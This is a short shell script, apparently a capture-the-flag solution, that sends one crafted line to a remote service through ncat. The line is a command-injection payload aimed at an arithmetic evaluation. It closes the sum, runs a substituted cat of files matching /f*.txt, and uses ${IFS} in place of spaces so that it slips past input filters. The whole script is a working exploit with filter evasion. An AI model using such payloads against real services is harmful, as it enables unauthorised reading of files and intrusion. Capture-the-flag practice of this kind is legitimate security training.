#!/bin/sh
# solve.sh <host> <port>: the line is evaluated, so it can end the sum and go on: no space, no "flag" needed.
printf '1))$(cat${IFS}/f*.txt)$((1\n' | timeout 10 ncat "$1" "$2"
